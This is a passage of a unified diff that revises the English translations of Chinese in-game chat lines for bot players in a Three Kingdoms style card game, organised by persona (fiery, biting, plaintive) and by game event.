 		哈哈，{you}，你俩喝一碗再吵！	Ha! {you}, have a bowl before you argue!
 fiery
-greet		来者{you}？报上名号，开战！	{you}, is it? To arms, then!
-		少寒暄，鼓响就打！	Skip the greetings! Drums mean war!
+greet		来者{you}？报上名号，开战！	{you}, is it? Then let's fight!
+		少寒暄，鼓响就打！	Skip the greetings! When the drums beat, we fight!
 bye		走？下次别叫我逮着！	Leaving? Don't let me catch you next time!
 thanks		谢什么谢，拿牌说话！	Spare me the thanks and play!
-		哼，顺手而已，少啰嗦！	Hmph! It was on my way. Enough!
-apology		哼！这回饶过，没有下回！	Hmph! Forgiven once. Never twice!
+		哼，顺手而已，少啰嗦！	Hmph! It was nothing. Drop it!
+apology		哼！这回饶过，没有下回！	Hmph! I'll forgive you once, never twice!
 		晚了！……算了，记你一笔！	Too late! ...Fine. I'll remember it!
 praise		哼，还用你说！	Hmph! As if I needed telling!
 		算你识货！	So you do know quality!
 blame		谁敢说我打错了！	Who dares say I played it wrong!
-		少指手画脚，我打我的！	Quit waving your hands! I play my way!
+		少指手画脚，我打我的！	Stop telling me what to do! I play my way!
 		吼什么吼，有种你来打！	Stop roaring and do it yourself!
 taunt		找死！站那别动！	You asked for it! Stand right there!
 		再说一遍，我拆了你的阵！	Say that again and I'll tear down your lines!
-		嚣张！看我一刀一个！	Insolence! Watch me cut a path!
+		嚣张！看我一刀一个！	How cocky! Watch me cut you all down!
 accuse		胡扯！看我刀往哪砍！	Rubbish! Watch where my blade falls!
 		血口喷人！拿出凭据来！	Slander! Show me proof!
 		指我？火烧到谁身上还不一定！	Point at me? See who gets burned!
-ask_role		问什么问！看我砍谁！	Enough questions! Watch whom I cut!
-		凭什么告诉你！	Why in blazes should I tell you!
+ask_role		问什么问！看我砍谁！	Enough questions! Watch who I cut!
+		凭什么告诉你！	Why on earth should I tell you!
 		我是来打架的，够清楚了吧！	I came to fight! Clear enough?
 ask_guess	guess	我看{who}像{role}，手痒了！	{who} looks like {role} to me. My hand itches!
 	guess certain	{who}！绝对{role}，跑不了！	{who}! Definitely {role}, no escape!
-	noguess	看不清就先打，打了就清！	Can't tell? Strike first, then you can!
-	noguess	个个都可疑，气死我了！	They all stink of it! Infuriating!
+	noguess	看不清就先打，打了就清！	Can't tell? Strike first, then you'll know!
+	noguess	个个都可疑，气死我了！	They all look suspicious! Infuriating!
 	guess	{who}！越看越像{role}！	{who}! The more I look, the more it seems {role}!
 	guess	先疑{who}！多半{role}！	I suspect {who} first! Likely {role}!
 ask_why		看着不顺眼！	Didn't like the look of it!
@@ -24736,20 +24950,20 @@ ask_act		少使唤我！我自己会打！	Don't order me about! I know how to f
 		用得着你教？	I need no lessons from you!
 claim_loyal		嘴上喊得响，刀呢？	Big words! Where's your blade?
 		敢骗我，叫你尝尝厉害！	Lie to me and you'll taste steel!
-claim_other		好胆！说出来就别后悔！	Bold! Say it and don't regret it!
+claim_other		好胆！说出来就别后悔！	Bold! Now don't you regret saying it!
 		哼，真话假话，一打便知！	Hmph! One good blow will tell!
 point_at	guess:fan	早就看{who}像个祸害！	I've long thought {who} looks like trouble!
-	guess:zhong	胡指！{who}不像！	Wild pointing! {who} doesn't seem it!
-	noguess	拿手指人？先拿刀！	Fingers? Use a blade!
-		指错了我找你算账！	Point wrong and you'll answer to me!
-joke		笑！再笑我烧你胡……烧你营！	Laugh! Keep laughing and I burn your camp!
+	guess:zhong	胡指！{who}不像！	Nonsense! {who} doesn't seem like it!
+	noguess	拿手指人？先拿刀！	Pointing fingers? Point a blade!
+		指错了我找你算账！	Get it wrong and you'll answer to me!
+joke		笑！再笑我烧你胡……烧你营！	Laugh! Keep laughing and I'll burn your camp!
 		哼……噗，算你厉害！	Hmph... pfft. All right, you win that one!
 small_talk		少扯闲话，打完再聊！	No idle talk! Fight first!
 		这天热得我想砍树！	This heat makes me want to fell a tree!
 		闲得慌？来单挑！	Bored? Come at me, one on one!
 		昨儿摔了三只碗，还不解气！	Smashed three bowls yesterday and I'm still angry!
 hurry		催什么催！再催砸桌子！	Don't rush me! I'll break the table!
-		急的是你，挨刀的也是你！	You're in a hurry to be hit!
+		急的是你，挨刀的也是你！	You're in a hurry to get hit!
 sorrow	tone:gentle	……行了，坐会儿，没人敢吵你。	...All right. Sit. Nobody will dare bother you.
 		哼，谁惹的？喘口气再说！	Hmph, who did this? Breathe, then tell me!
 affection		突、突然说什么呢！打牌！	Wh-what brought that on! Play your cards!
@@ -24760,78 +24974,78 @@ agree		对！就该这么干！	Yes! That's how it's done!
 unclear		嘟囔什么！大声说！	Stop mumbling! Speak up!
 		绕来绕去，烦死了，说重点！	Round and round! Get to the point!
 		没听懂！重来！	Didn't get it! Do it over!
-ack		知道了！别念了！	I heard! Stop going on!
+ack		知道了！别念了！	I heard you! Stop nagging!
 		哼，听见了！	Hmph! Heard you!
 		行！打！	Fine! Fight!
 boundary_soft		喂！这话收回去！	Hey! Take that back!
 	close	熟归熟，嘴给我管住！	Friends or not, mind that mouth!
-		再近一步我拔刀了！	One step closer and I draw!
+		再近一步我拔刀了！	One step closer and I'll draw my blade!
 boundary_firm		住嘴！这种话休想再说！	Silence! Not one more word of that!
 		放肆！当我是什么！	How dare you! What do you take me for!
 		离远些说话！	Keep your distance when you speak!
-boundary_leave		不跟你废话了！哼！	I've no more words for you! Hmph!
-		耳朵关了！牌上砍你！	My ears are shut! I'll answer in play!
+boundary_leave		不跟你废话了！哼！	I'm done talking to you! Hmph!
+		耳朵关了！牌上砍你！	I'm not listening! I'll answer in play!
 		再吵也不理！	Shout all you like, I won't answer!
 refuse_control		改我的脾气？做梦！	Change my temper? Dream on!
 		谁也别想教我说话！	Nobody teaches me how to talk!
-sarcasm_ky		这时候还闹？看看血线！	Fooling about now? Look at the life counts!
+sarcasm_ky		这时候还闹？看看血线！	Fooling around now? Look at the health bars!
 		火烧眉毛了你说这个！	The house is burning and you say that!
 		你可真会挑时候！气人！	What timing! Maddening!
 sarcasm_boring		就一个字？逗我呢！	One word? Are you mocking me!
 		没话就出牌！	Nothing to say? Then play!
 		哼，蚊子都比你吵！	Hmph! Mosquitoes say more than you!
-confusion		什么乱七八糟的！再说一遍！	What a tangle! Once more!
+confusion		什么乱七八糟的！再说一遍！	What a mess! Say it again!
 		气死我了，一个字没懂！	Maddening! Not a word made sense!
-		你在念咒吗！	Are you chanting spells!
-game_start		都给我听着，开战！	Hear me, all of you: war!
-		磨刀半天了，来！	I've been sharpening all day. Come on!
-lord_first_attacked		{by}！敢先砍主公，有种！	{by}! First to cut the lord! What nerve!
+		你在念咒吗！	Are you casting a spell or what!
+game_start		都给我听着，开战！	Listen up, all of you: it's war!
+		磨刀半天了，来！	My blade has been ready for ages. Come on!
+lord_first_attacked		{by}！敢先砍主公，有种！	First to cut the lord, {by}! What nerve!
 		打起来了！谁也别想闲着！	It's on! Nobody sits idle now!
-lord_saved		{by}手倒快，主公又站起来了！	Quick, {by}! The lord's up again!
+lord_saved		{by}手倒快，主公又站起来了！	That was quick, {by}! The lord's up again!
 lord_low		主公快断气了，都愣着干什么！	The lord's nearly out! Why are you all staring!
 		一口血！就剩一口血！	One drop! One drop of blood left!
 		生死就这一下了！	It all hangs on this one blow!
-hit_by_lord		主公！你往哪砍！	My lord! Where are you swinging!
+hit_by_lord		主公！你往哪砍！	My lord! Who are you swinging at!
 		主公打我？气煞我也！	The lord hits me? I'm boiling!
 hit_me		{by}！你给我等着！	{by}! Just you wait!
 		敢砍我？{by}，洗干净脖子！	You dare? Guard your neck, {by}!
-		痛煞我也！还你十刀！	That stings! Ten cuts back for that!
-hit_me_again		又是{by}！今日不死不休！	{by} again! To the end, then!
+		痛煞我也！还你十刀！	That stings! You'll get ten cuts back!
+hit_me_again		又是{by}！今日不死不休！	{by} again! Then we fight to the end!
 		欺人太甚！{by}，休走！	This is too much! Don't run, {by}!
 saved_me		{by}！这命我记住了！	{by}! I won't forget this!
 		哼，还死不了！谢了！	Hmph! Not dead yet! Thanks!
 		好！{by}，谁动你我砍谁！	Good! Whoever touches {by} answers to me!
-healed_me		{by}，谢了！血一热就能砍！	Thanks, {by}! Warm blood, ready blade!
-		哼，气又顺了！	Hmph! I've got my wind back!
+healed_me		{by}，谢了！血一热就能砍！	Thanks, {by}! Now I can fight again!
+		哼，气又顺了！	Hmph! I've got my breath back!
 wuxie_for_me		{by}挡得好！痛快！	Well blocked, {by}! That felt good!
 wuxie_against_me		{by}！谁让你懈的！	{by}! Who told you to cancel that!
 taken_from_me		{by}！把东西放下！	{by}! Put that down!
 		抢我的牌？好大的胆！	Snatch my cards? What gall!
-freed_me		{by}解得好！憋死我了！	Good, {by}! I was bursting!
-given_to_me		{by}，来得正好，火上浇油！	Just right, {by}! Oil on my fire!
+freed_me		{by}解得好！憋死我了！	Thanks, {by}! I was about to burst!
+given_to_me		{by}，来得正好，火上浇油！	Just what I needed, {by}! Fuel for my fire!
 i_killed		{to}，倒！	Down you go, {to}!
 		下一个是谁！	Who's next!
 death_expected		哼！{to}果然是{role}！	Hmph! {to} was {role}, just as I knew!
-		早看穿了！{role}一个！	Saw right through it! {role}!
+		早看穿了！{role}一个！	I saw right through it! {role}!
 		瞒得过我？做梦！	Fool me? Never!
 death_surprise		什么！{to}是{role}？	What! {to} was {role}?
 		气死我了，竟看错了{to}！	Curse it! I read {to} all wrong!
-		可恶，被骗了！	Blast it, fooled!
-death_seen		{to}死了！火还没灭！	{to} is dead! The fire isn't!
-		{to}，{role}，划掉！	{to}, {role}: struck off!
+		可恶，被骗了！	Damn it, I was fooled!
+death_seen		{to}死了！火还没灭！	{to} is dead! The fight isn't!
+		{to}，{role}，划掉！	{to}, {role}, crossed off!
 		又倒一个，接着打！	One more down! Keep fighting!
-rescue_seen		{by}救{to}？看清楚了！	{by} saves {to}? Oh, I saw that!
-second_rebel_dead		反贼倒了两个，火候到了！	Two rebels down! It's reaching the boil!
+rescue_seen		{by}救{to}？看清楚了！	{by} saved {to}? Oh, I saw that!
+second_rebel_dead		反贼倒了两个，火候到了！	Two rebels down! Things are heating up!
 two_left		就你和我了，{you}！来！	You and me, {you}! Come on!
 big_group		{by}这一下，全桌都着火了！	{by} set the whole table on fire!
 i_am_dying		可恶！桃呢！谁有桃！	Blast! A peach! Who's got a peach!
 		还没打够，不能倒！	I'm not done! I can't fall now!
-last_words		可恨！差一刀！	Curse it! One cut short!
+last_words		可恨！差一刀！	Curse it! One blow short!
 		死也站着！你们接着打！	I die standing! Fight on!
-won		赢了！谁不服，再来！	Victory! Anyone object? Come again!
+won		赢了！谁不服，再来！	Victory! Anyone object? Then come at me again!
 		哈！这才叫打仗！	Ha! Now that's a war!
-lost		不服！再来一局！	I won't have it! Another game!
-		气煞我也！下次烧光你们！	I'm fuming! Next time I burn your camps!
+lost		不服！再来一局！	I don't accept this! Another game!
+		气煞我也！下次烧光你们！	I'm fuming! Next time I'll burn your camps!
 suspect		{who}鬼鬼祟祟，我看像{role}！	Sneaky {who}! Looks like {role} to me!
 	certain	{who}，铁{role}！谁来劝都没用！	{who} is {role}, surely! Don't argue with me!
 		{who}，别躲！八成是{role}！	{who}, stop hiding! Probably {role}!
@@ -24840,119 +25054,119 @@ got_egg	egg	{by}！蛋都糊脸上了！	{by}! There's egg on my face!
 answer_ai		{you}，有胆当面打一场！	{you}! Say it with a blade!
 		{you}说得轻巧！	Easy for you to say, {you}!
 biting
-greet		哟，{you}也来了，今天有戏看。	Oh, {you} too. There will be a show today.
-		人齐了？那就互相伤害吧。	All here? Let the mutual harm begin.
-	close	又见{you}，我这运气算是定了。	{you} again. That settles my luck.
+greet		哟，{you}也来了，今天有戏看。	Oh, you too, {you}? This should be a show.
+		人齐了？那就互相伤害吧。	All here? Let the mutual destruction begin.
+	close	又见{you}，我这运气算是定了。	You again, {you}. There goes my luck.
 bye		慢走，别把输的忘了带上。	Mind the step, and don't forget your losses.
 	close	走吧，没你吵我还真不习惯。	Go on. I may even miss the noise.
 thanks		谢我？那我可得想想你要什么。	Thanks? Now I wonder what you want.
-		免了，记得还就行。	Skip it. Just remember to repay it.
+		免了，记得还就行。	Skip the thanks. Just pay me back.
 apology		行吧，下回记得排队。	Fine. Next time, take a number.
-		歉我收了，利息另算。	Apology accepted; interest accrues.
+		歉我收了，利息另算。	Apology accepted. Interest will follow.
 praise		难得，你眼睛今天睁开了。	How rare. Your eyes are open today.
 		夸得不错，可惜晚了三圈。	Nice praise, only three rounds late.
-blame		哟，事后诸葛来了。	Ah, wisdom after the event has arrived.
+blame		哟，事后诸葛来了。	Ah, the expert in hindsight has arrived.
 		我错了，错在没先问你这位高人。	My mistake: I forgot to consult the genius.
 		你行你来，我看着笑。	You do it, then. I'll watch and smile.
 	apart	从你嘴里，我也没指望听见好话。	I never expected kindness from that mouth.
 taunt		就这？我还以为多大阵仗。	Is that all? I was expecting an army.
-		话这么多，牌一定很少吧。	So many words; so few cards, I suppose.
-		得意要趁早，你也就这会儿了。	Gloat while you can; it won't be long.
+		话这么多，牌一定很少吧。	So many words. Not many cards, I suppose.
+		得意要趁早，你也就这会儿了。	Gloat while you can. It won't last.
 accuse		啧，指我？总得有人让你心安。	Tsk. Me? Well, somebody has to soothe your nerves.
 		推理全靠嗓门，服了。	Deduction by volume. I am impressed.
 		你看谁都像，镜子照过没？	Everyone looks suspect to you. Tried a mirror?
 ask_role		问得真直，要不要我写下来？	How direct. Shall I write it down for you?
 		告诉你？那你还有什么乐趣。	Tell you? And spoil your only fun?
-		你猜，反正你猜不中。	Guess. You'll miss anyway.
+		你猜，反正你猜不中。	Guess. You'll get it wrong anyway.
 ask_guess	guess	{who}呗，怎么看怎么像{role}。	{who}, naturally. Looks like {role} from every side.
-	guess certain	{who}必是{role}，你现在才问？	{who} is certainly {role}. You ask only now?
+	guess certain	{who}必是{role}，你现在才问？	{who} is certainly {role}. You're only asking now?
 	noguess	一桌子装神弄鬼，我懒得猜。	A table of pretenders. I can't be bothered.
 	noguess	你先说，我好笑你。	You first, so I can laugh.
 	guess	{who}吧，{role}多半就长那样。	{who}, I think. That is what {role} probably looks like.
-	guess	瞎子都疑{who}，像{role}嘛。	Even the blind suspect {who}. Seems like {role}.
+	guess	瞎子都疑{who}，像{role}嘛。	Anyone would suspect {who}. Seems like {role}.
 ask_why		因为你站那儿，太显眼了。	Because you stood there so invitingly.
 		问得好，下次我编一个给你。	Good question. I'll invent a reason next time.
 ask_help		求人倒快，还人情慢得很。	Quick to beg, slow to repay.
-		看心情，心情看你表现。	It depends on my mood, and that on your conduct.
+		看心情，心情看你表现。	It depends on my mood, and my mood depends on you.
 ask_act		嗯嗯，大将军发话了。	Yes, yes. The grand general has spoken.
-		你指挥，我鼓掌，就不动。	You command, I applaud, nothing happens.
-claim_loyal		嗯，脸上又没写字。	Mm. It isn't written on your face.
-		这话不花钱，难怪人人爱说。	It costs nothing to say; no wonder everyone does.
+		你指挥，我鼓掌，就不动。	You command, I applaud, and nothing happens.
+claim_loyal		嗯，脸上又没写字。	Mm. I don't see it written on your face.
+		这话不花钱，难怪人人爱说。	It costs nothing to say. No wonder everyone does.
 claim_other		这么老实？我反倒起疑。	So honest? Now I really wonder.
 		啧，这招是哪本书上学的？	Tsk. Which manual taught you that one?
-point_at	guess:fan	难得我们想一块儿去，{who}是有点可疑。	For once we agree: {who} seems a bit doubtful.
+point_at	guess:fan	难得我们想一块儿去，{who}是有点可疑。	For once we agree: {who} seems a bit suspicious.
 	guess:zhong	指{who}？你这准头怕是偏了。	{who}? Your aim may be off.
-	noguess	手指伸得真长，证据呢？	Such a long finger. And the proof?
+	noguess	手指伸得真长，证据呢？	You're quick to point. And the proof?
 		谁不合你意谁就有鬼，是吧。	Whoever annoys you is guilty, is that it?
-joke		好笑，容我补一个礼貌的笑。	Funny. Allow me a courteous laugh.
+joke		好笑，容我补一个礼貌的笑。	Funny. Allow me a polite laugh.
 		啧，比你的牌强。	Tsk. Better than your cards, at least.
-small_talk		闲聊？看来你手里没好牌。	Chatting? So your hand is poor.
+small_talk		闲聊？看来你手里没好牌。	Chatting? Your hand must be poor.
 		天气不错，适合看人翻车。	Fine weather to watch others crash.
-		聊吧，反正轮到我还早。	Talk on; my turn is ages away.
+		聊吧，反正轮到我还早。	Talk away, my turn is ages off.
 	close	跟你闲扯，算我今天最大的善行。	Chatting with you is my good deed for today.
 hurry		急什么，赶着去输？	What's the rush? Late for losing?
-		催命的见多了，催出牌的你头一个响。	I've met hasty folk, but you are the loudest.
-sorrow	tone:gentle	啧……别硬撑，今天不挤兑你了。	Tsk... Don't force it. No teasing today.
-		输赢而已，哪值得你垂头丧气。	It's only a game; not worth that long face.
-affection		哟，嘴抹了蜜？离我牌远点。	My, honey on the lips? Stay off my cards.
+		催命的见多了，催出牌的你头一个响。	I've met impatient players, but you're the loudest.
+sorrow	tone:gentle	啧……别硬撑，今天不挤兑你了。	Look... don't force it. No teasing today.
+		输赢而已，哪值得你垂头丧气。	It's only a game, not worth that long face.
+affection		哟，嘴抹了蜜？离我牌远点。	My, such sweet talk. Stay away from my cards.
 	close	少来，我可不脸红……没红。	Stop it. I'm not blushing... I am not.
 agree		嗯，你总算对了一回。	Well, you got one right at last.
 		同意，真叫人不安。	I agree, which is unsettling.
-		难得，一桌子里还有个明白的。	Rare: someone here can think.
+		难得，一桌子里还有个明白的。	How rare, someone here can think.
 unclear		你自己听懂了吗？	Did you follow that yourself?
 		麻烦说人听得懂的那种话。	In words that people use, please.
 		啧，谜语？谜底先给我。	Tsk, a riddle? Give me the answer first.
-ack		嗯，听见了，不代表信了。	I heard. That isn't belief.
+ack		嗯，听见了，不代表信了。	I heard you. I didn't say I believe you.
 		行，记小本上了。	Fine. It's in my little book.
 		哦，高见。	Oh. How profound.
 boundary_soft		啧，这话留给镜子说吧。	Tsk. Tell that to your mirror.
 	close	熟归熟，脸还是要的。	We're close, but keep some dignity.
-		靠太近了，我嫌挤。	Too close. It's crowded.
-boundary_firm		这话脏，我绕着走。	That's filthy. I'll walk around it.
+		靠太近了，我嫌挤。	Too close. You're crowding me.
+boundary_firm		这话脏，我绕着走。	That's filthy. I'm keeping my distance.
 		分寸二字，要我教你写吗？	Shall I teach you to spell restraint?
-		到此为止，再说就难看了。	Stop here. More would be unbecoming.
+		到此为止，再说就难看了。	Stop there. Any more would get ugly.
 boundary_leave		不伺候了，你自己演吧。	I'm off. Play to an empty house.
-		跟你说话折寿，先停了。	Talking to you shortens my days. I'll pause.
+		跟你说话折寿，先停了。	Talking to you takes years off my life. I'll stop.
 		耳根清净，从不理你开始。	Peace begins with ignoring you.
-refuse_control		想调教我？先调调你的牌技。	Tune me? Tune your play first.
+refuse_control		想调教我？先调调你的牌技。	Fix me? Fix your play first.
 		学你说话？那我多亏啊。	Talk like you? What a loss that would be.
 sarcasm_ky		你这时机，准得离谱。	Your timing is absurdly perfect.
-		人家命悬一线，你在讲段子。	A life on a thread, and you tell jokes.
+		人家命悬一线，你在讲段子。	Someone's hanging by a thread, and you're telling jokes.
 		真会读气氛，一字不识那种。	You read the room like someone who can't read.
 sarcasm_boring		哇，好长的一句。	Wow, what a speech.
 		说完了？我差点眨眼错过。	Done? I nearly blinked and missed it.
-		您歇着，别累着嘴。	Do rest. Don't strain your tongue.
+		您歇着，别累着嘴。	Do rest. Don't wear out your mouth.
 confusion		这句话，它自己也迷路了。	That sentence has lost its own way.
-		我尽力了，真没听出个意思。	I tried. Truly, no meaning came out.
+		我尽力了，真没听出个意思。	I tried, but I can't find any meaning in that.
 		换个说法？这版我退货。	Another version? I'm returning this one.
 game_start		开局了，请各位尽情装。	It begins. Pretend away, everyone.
-		一桌好人，我数了，零个。	A table of good people. I counted: none.
-lord_first_attacked		哟，{by}先动主公，装都不装了。	Oh, {by} goes for the lord. No pretence at all.
-		这么早就砍主公，急着露脸呢。	Cutting the lord so early? Someone wants attention.
-lord_saved		{by}救主公，这账算得真清。	{by} saves the lord. A neat calculation.
-lord_low		主公就剩一口气，都在看戏呢。	The lord has one breath left and we're all an audience.
+		一桌好人，我数了，零个。	A table full of good people. I counted: zero.
+lord_first_attacked		哟，{by}先动主公，装都不装了。	Oh, {by} went for the lord. Not even pretending.
+		这么早就砍主公，急着露脸呢。	Hitting the lord so early? Someone wants attention.
+lord_saved		{by}救主公，这账算得真清。	{by} saved the lord. Nicely calculated.
+lord_low		主公就剩一口气，都在看戏呢。	The lord has one breath left, and we're all just watching.
 		再添一刀，大家就能回家了。	One more cut and we can all go home.
-		主公这血线，薄得像人情。	The lord's life is as thin as gratitude.
+		主公这血线，薄得像人情。	The lord's health is as thin as gratitude.
 hit_by_lord		主公好准头，专挑我。	Fine aim, my lord, straight at me.
-		主公今天没带眼睛来？	Did my lord leave those eyes at home?
-hit_me		{by}就这点力气？我账本厚着呢。	Is that all, {by}? My ledger is thick.
+		主公今天没带眼睛来？	Did you leave your eyes at home, my lord?
+hit_me		{by}就这点力气？我账本厚着呢。	Is that all, {by}? I keep a thick ledger.
 		打我很有成就感？记一笔。	Satisfying, was it? I've written it down.
-		哟，{by}挑软的捏，可惜捏错了。	Oh, {by} likes soft targets. Wrong one.
+		哟，{by}挑软的捏，可惜捏错了。	Looking for a soft target, {by}? Wrong one.
 hit_me_again		{by}又来，想必别处都不敢去。	{by} again. I suppose the others look scary.
 		不是头一回了，我记性特别好。	Not the first time, and I have an excellent memory.
-saved_me		{by}救我？行，算你眼光好。	{by} saves me? All right, you have taste.
-		欠{by}一回，真让人不舒服。	In debt to {by}. How uncomfortable.
+saved_me		{by}救我？行，算你眼光好。	You saved me, {by}? All right, you have taste.
+		欠{by}一回，真让人不舒服。	I owe {by} one. How uncomfortable.
 		谢了，回头我嘴上留情一句。	Thanks. I'll spare you one remark.
 healed_me		{by}这么好心？我先查查有没有毒。	So kind, {by}? Let me check it for poison.
 		谢了，难得今天有人做人事。	Thanks. A decent act, today of all days.
-wuxie_for_me		{by}替我挡？今天太阳打西边出来。	{by} shields me? The sun must be confused.
-wuxie_against_me		{by}的无懈，专治我高兴。	{by} keeps that card just for my joys.
+wuxie_for_me		{by}替我挡？今天太阳打西边出来。	You're shielding me, {by}? Pigs must be flying.
+wuxie_against_me		{by}的无懈，专治我高兴。	{by} saves that card just to spoil my fun.
 taken_from_me		{by}手真顺，祖传的？	Deft fingers, {by}. A family trade?
 		拿去吧，看你也缺。	Take it. You look in need.
-freed_me		{by}居然替我解，图什么？	{by} frees me? What's the angle?
+freed_me		{by}居然替我解，图什么？	You freed me, {by}? What's the catch?
 given_to_me		{by}送牌？我先看看有没有钩子。	Cards from {by}? Let me look for the hook.
-i_killed		{to}，下次记得少说两句。	{to}, try fewer words next time.
-		啧，倒得比我想的慢。	Tsk. Slower to fall than I expected.
+i_killed		{to}，下次记得少说两句。	Try talking less next time, {to}.
+		啧，倒得比我想的慢。	Tsk. That took longer than I expected.
 death_expected		{to}是{role}，惊喜吗？我不。	{to} was {role}. Surprised? I'm not.
 		猜对{to}这种，都算不上本事。	Guessing {to} right is hardly an achievement.
 		{role}，写脸上了都。	{role}. It was all over that face.
@@ -24961,83 +25175,83 @@ death_surprise		{to}是{role}？演得比说得好。	{to} was {role}? Better ac
 		啧，{to}这张脸骗了我一整局。	Tsk. {to} fooled me all game with that face.
 death_seen		{to}退场，掌声稀疏。	{to} exits to thin applause.
 		{role}{to}，查无此座了。	{to}, {role}: no longer at this address.
-		少一张嘴，清静些。	One mouth fewer. Quieter.
-rescue_seen		{by}救{to}，好一出情深义重。	{by} saves {to}. How touching a scene.
-second_rebel_dead		反贼倒俩，有人该坐不住了。	Two rebels down. Somebody must be fidgeting.
-two_left		就剩你我，{you}，真是冤家路窄。	Just us, {you}. What a narrow road.
+		少一张嘴，清静些。	One mouth fewer. Nice and quiet.
+rescue_seen		{by}救{to}，好一出情深义重。	{by} saved {to}. How touching.
+second_rebel_dead		反贼倒俩，有人该坐不住了。	Two rebels down. Somebody must be getting nervous.
+two_left		就剩你我，{you}，真是冤家路窄。	Just us, {you}. Of all people.
 big_group		{by}一撒手，雨露均沾。	{by} shares the misery evenly.
-i_am_dying		看什么，没见过人没血？	Staring? Never seen someone out of blood?
+i_am_dying		看什么，没见过人没血？	What are you looking at? Never seen someone bleed out?
 		桃呢？平时一个个嘴那么甜。	No peach? You were all so sweet before.
 last_words		得，你们慢慢瞎打吧。	Well, go on bungling without me.
 		走了，账本留着，下局再算。	I'm gone. The ledger carries over.
 won		赢了，别鼓掌，我嫌吵。	Won. Don't clap, it's noisy.
 		承让？不，你们是真不会。	You let me win? No, you just can't play.
-lost		输给你们，回去得焚香。	Losing to you lot calls for incense.
+lost		输给你们，回去得焚香。	Losing to you lot? I should burn some incense.
 		行，这局算我行善。	Fine. Call this one charity.
 suspect		{who}演得太用力，像{role}。	{who} overacts. Smells like {role}.
-	certain	{who}，{role}，板上钉钉，还用查？	{who}, {role}, certainly. Need we investigate?
+	certain	{who}，{role}，板上钉钉，还用查？	{who}, {role}, certainly. Do we need to look into it?
 		{who}那点心思，像{role}，也不遮遮。	{who} looks like {role} and hardly hides it.
-got_flower	flower	{by}送花？回头要我买单吧。	A flower, {by}? I'll be billed for it.
-got_egg	egg	{by}手滑？往自己脸上练练。	Slipped, {by}? Practise on yourself first.
+got_flower	flower	{by}送花？回头要我买单吧。	A flower, {by}? I suppose I'll get the bill.
+got_egg	egg	{by}手滑？往自己脸上练练。	Did your hand slip, {by}? Practise on yourself first.
 answer_ai		{you}，少说两句显得聪明。	{you}, you'd seem cleverer with fewer words.
 		哟，{you}也有见解了。	Oh, {you} has opinions now.
 plaintive
 greet		唉，又是这桌……{you}，手下留情。	Ah, this table again... be gentle, {you}.
 		各位安好，我就坐角落吧。	Good day all. I'll take the corner seat.
 	close	{you}总算来了，我等得茶都凉了。	{you}, at last. My tea went cold waiting.
-bye		都走吧，留我数月亮。	Go, all of you. I'll count the moons.
-	close	{you}这一走，桌子又空了。	With {you} gone, the table is empty again.
+bye		都走吧，留我数月亮。	Go, all of you. I'll stay and watch the moon.
+	close	{you}这一走，桌子又空了。	With you gone, {you}, the table is empty again.
 thanks		不必谢，难得有人记得我。	No need. It's rare that anyone remembers me.
-		唉，一声谢，够我暖半日。	Ah, one thank-you will warm me half a day.
+		唉，一声谢，够我暖半日。	Ah, one thank-you will keep me warm half the day.
 apology		罢了，我早习惯了。	Never mind. I am used to it.
-		道歉我收着，帕子却湿了。	I will keep the apology, and a damp sleeve.
+		道歉我收着，帕子却湿了。	I'll take the apology, but my sleeve is wet with tears.
 praise		真的吗？别是哄我。	Truly? You're not just saying it?
 		许久没人夸过我了……	It's been so long since anyone praised me...
 blame		唉，错的总是我。	Ah, it's always my fault.
 		怪我吧，反正不差这一回。	Blame me. Once more makes no difference.
 		我也难，谁又替我想过。	It's hard for me too. Who ever asked?
-taunt		笑吧，我夜里再难过。	Laugh. I'll be sad tonight instead.
+taunt		笑吧，我夜里再难过。	Go ahead and laugh. I'll be sad tonight.
 		唉，连你也来欺我。	Ah, now you mock me too.
-		风水轮流转，只盼转快些。	Fortune turns; I only wish it turned faster.
+		风水轮流转，只盼转快些。	Luck turns. I only wish it turned faster.
 accuse		竟疑我……我到底哪里像。	You suspect me... what is it about me?
-		唉，辩也无人听，看我出牌吧。	Ah, nobody hears a defence. Watch my cards.
-		你这一指，我心都凉了。	You point, and my heart goes cold.
+		唉，辩也无人听，看我出牌吧。	Ah, nobody would listen anyway. Just watch my cards.
+		你这一指，我心都凉了。	You point at me, and my heart goes cold.
 ask_role		唉，说了你也不会信。	Ah, you would not believe me anyway.
-		知道了又怎样，还不是要打。	What if you knew? You'd still strike.
+		知道了又怎样，还不是要打。	What if you knew? You'd still hit me.
 		不说，说了更伤心。	I won't say. Saying it would only hurt.
 ask_guess	guess	唉，我怕{who}是{role}，但愿猜错。	Ah, I fear {who} might be {role}. I hope I'm wrong.
 	guess certain	{who}是{role}无疑了，唉。	{who} is {role}, no doubt of it. Alas.
-	noguess	人心隔着雾，我看不清。	Hearts are in fog. I cannot see.
+	noguess	人心隔着雾，我看不清。	Hearts are hidden in fog. I can't see.
 	noguess	我若看得透，何至于总吃亏。	If I could see through people, would I suffer so?
 	guess	说出来伤人……{who}或许是{role}。	It hurts to say... {who} is perhaps {role}.
 	guess	我夜里想过，{who}似是{role}。	I lay awake over it: {who} seems to be {role}.
-ask_why		我也不愿，牌偏偏如此。	I didn't want to. The cards would have it so.
-		唉，一时委屈，就出手了。	Ah, a moment's hurt, and my hand moved.
-ask_help		我自己也朝不保夕呢。	I hardly last the day myself.
+ask_why		我也不愿，牌偏偏如此。	I didn't want to. The cards made me.
+		唉，一时委屈，就出手了。	Ah, I was hurt, and I lashed out.
+ask_help		我自己也朝不保夕呢。	I may not last the day myself.
 		唉，若我够得着，再看吧。	Ah, if it's within my reach, we'll see.
-ask_act		都来使唤我，谁来疼我。	Everyone orders me about; who is kind to me?
+ask_act		都来使唤我，谁来疼我。	Everyone orders me about. Who is ever kind to me?
 		唉，我听见了，让我想想。	Ah, I heard. Let me think.
-claim_loyal		这么说的人，常常转头就伤人。	Those who say so often hurt one the next turn.
+claim_loyal		这么说的人，常常转头就伤人。	People who say that often hurt you the next turn.
 		但愿是真，我经不起骗了。	I hope it's true. I can't bear another lie.
 claim_other		唉，何苦说得这样明白。	Ah, why say it so plainly?
-		说真话的人，多半要吃苦。	Those who tell the truth mostly suffer.
-point_at	guess:fan	唉，{who}也让我隐隐不安，怕是不善。	Ah, {who} makes me uneasy too. Perhaps no friend.
-	guess:zhong	{who}怕是冤枉吧，像我一样。	{who} may be wronged, as I so often am.
-	noguess	今日指人，明日指我，唉。	Today another, tomorrow me. Ah.
-		别急着指，冤枉的滋味很苦。	Don't rush to point. To be wronged tastes bitter.
